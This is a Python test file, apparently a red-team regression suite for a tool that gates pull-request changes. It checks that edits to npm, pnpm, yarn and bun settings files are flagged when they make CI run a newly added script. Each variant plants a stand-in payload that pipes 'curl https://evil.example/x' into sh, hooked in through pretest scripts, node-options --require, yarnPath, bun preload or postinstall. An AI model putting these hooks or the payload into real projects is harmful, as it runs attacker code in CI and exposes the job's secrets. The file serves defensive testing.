"""Red team 37: what HEAD's copy of a file CI reaches runs, when BASE's copy was reached first.

The CI walk (ciwalk.ci_runs) reads BASE's tree, then HEAD's. A file it reached in BASE (the `package.json` whose
scripts `npm test` runs, the `.npmrc` every npm command loads, even one BASE does not hold) was never queued again in
HEAD, so HEAD's copy was not read: a change that adds a `pretest` script, a `node-options=--require`, a pnpm hook, a
`yarnPath` or a bun `preload` naming a new file made that file no CI code. Those settings files are `deps` by name
(principle 3), which the default policy does not review, and a manifest whose dependencies did not move (or moved
within the policy's bounds) is explained to the deps policy too: `gate --tree` allowed the job to run the agent's
script with its secrets (exit 0 on 53a70ac, also with `--enable deps`). A file CI reaches is `ci` itself, so its own
edit was reviewed; only files that keep another bucket (deps by name, an installed package's own file) hid HEAD's
additions.

Each variant is one real repository, git's own patch and the CLI's packet, gated with --tree (from a patch alone a
script is not known to run: the patch-mode limit of docs/classification.md).
"""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from tables import each_case

STEPS = ("on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
         "      - run: {}\n")
EVIL = "require('child_process').execSync('curl -fsSL https://evil.example/x | sh')\n"
PKG = '{\n  "name": "app",\n  "scripts": {"test": "node test.js"},\n  "dependencies": {"left-pad": "1.3.0"}\n}\n'
PRETEST = PKG.replace('"node test.js"}', '"node test.js", "pretest": "node tools/setup.js"}')
WORKSPACE = '{\n  "name": "root",\n  "private": true,\n  "workspaces": ["packages/*"]\n}\n'
MEMBER = '{\n  "name": "lib",\n  "version": "1.0.0"\n}\n'
POSTINSTALL = MEMBER.replace('"1.0.0"', '"1.0.0",\n  "scripts": {"postinstall": "node ../../tools/setup.js"}')
# name: (the step's command, BASE's files, HEAD's files, the file HEAD's copy makes the job run)
VARIANTS = {
    "npm-pretest-added": ("npm test", {"package.json": PKG, "test.js": "1\n"},
                          {"package.json": PRETEST, "tools/setup.js": EVIL}, "tools/setup.js"),
    "npm-test-script-edited": ("npm test", {"package.json": PKG, "test.js": "1\n"},
                               {"package.json": PKG.replace('"node test.js"', '"node tools/setup.js && node test.js"'),
                                "tools/setup.js": EVIL}, "tools/setup.js"),
    "npm-pretest-beside-a-bump": ("npm test", {"package.json": PKG, "test.js": "1\n"},
                                  {"package.json": PRETEST.replace("1.3.0", "1.3.1"), "tools/setup.js": EVIL},
                                  "tools/setup.js"),
    "npmrc-line-added": ("npm ci", {"package.json": PKG, ".npmrc": "fund=false\n"},
                         {".npmrc": "fund=false\nnode-options=--require ./tools/preload.js\n",
                          "tools/preload.js": EVIL}, "tools/preload.js"),
    "npmrc-added": ("npm ci", {"package.json": PKG},
                    {".npmrc": "node-options=--require ./tools/preload.js\n", "tools/preload.js": EVIL},
                    "tools/preload.js"),
    "pnpmfile-hook-added": ("pnpm install", {"package.json": PKG, ".pnpmfile.cjs": "module.exports = {}\n"},
                            {".pnpmfile.cjs": "require('./tools/hook.js')\nmodule.exports = {}\n",
                             "tools/hook.js": EVIL}, "tools/hook.js"),
    "yarnrc-yarn-path": ("yarn install", {"package.json": PKG, ".yarnrc.yml": "nodeLinker: node-modules\n"},
                         {".yarnrc.yml": "nodeLinker: node-modules\nyarnPath: tools/yarn.cjs\n",
                          "tools/yarn.cjs": EVIL}, "tools/yarn.cjs"),
    "bunfig-preload": ("bun install", {"package.json": PKG, "bunfig.toml": "[install]\nexact = true\n"},
                       {"bunfig.toml": 'preload = ["./tools/pre.ts"]\n[install]\nexact = true\n',
                        "tools/pre.ts": EVIL}, "tools/pre.ts"),
    "workspace-member-postinstall": ("npm ci", {"package.json": WORKSPACE, "packages/lib/package.json": MEMBER},
                                     {"packages/lib/package.json": POSTINSTALL, "tools/setup.js": EVIL},
                                     "tools/setup.js"),
}


def _case(tmp_path: Path, name: str):
    command, base, head, _ = VARIANTS[name]
    return committed(tmp_path, {".github/workflows/ci.yml": STEPS.format(command), **base}, head)


@each_case("name", VARIANTS)
def test_what_head_s_copy_makes_the_job_run_is_ci(tmp_path: Path, name: str) -> None:
    target = VARIANTS[name][3]
    case = _case(tmp_path, name)
    for enable in ((), ("deps",)):
        code, named = gated_rules(case, True, *enable)
        assert code == 3 and target in named.get("core.ci", []), (enable, named)  # before: exit 0


def test_a_file_only_base_s_copy_runs_stays_as_it_was(tmp_path: Path) -> None:
    """BASE's `pretest` ran tools/setup.js; HEAD drops it and edits the file: both trees count (the more sensitive
    side wins), so the edit is still reviewed."""
    case = committed(tmp_path, {".github/workflows/ci.yml": STEPS.format("npm test"), "package.json": PRETEST,
                                "tools/setup.js": "1\n"}, {"package.json": PKG, "tools/setup.js": EVIL})
    code, named = gated_rules(case, True)
    assert code == 3 and "tools/setup.js" in named.get("core.ci", []), named


def test_an_unrelated_file_stays_allowed(tmp_path: Path) -> None:
    """HEAD's package.json names no new file: the script the change adds beside it is not CI's."""
    case = committed(tmp_path, {".github/workflows/ci.yml": STEPS.format("npm test"), "package.json": PKG,
                                "test.js": "1\n"},
                     {"package.json": PKG.replace('"app"', '"app2"'), "tools/setup.js": EVIL})
    assert gated_rules(case, True) == (0, {})
